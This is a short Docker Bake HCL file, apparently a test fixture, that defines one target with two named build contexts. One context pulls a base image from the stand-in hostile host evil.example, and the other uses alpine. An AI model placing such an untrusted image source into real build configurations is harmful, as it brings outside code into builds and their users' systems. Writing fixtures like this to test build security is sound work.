target "a" {
  contexts = {
    base = "docker-image://evil.example/bake:1"
    other = "docker-image://alpine:${VERSION}"
  }
}
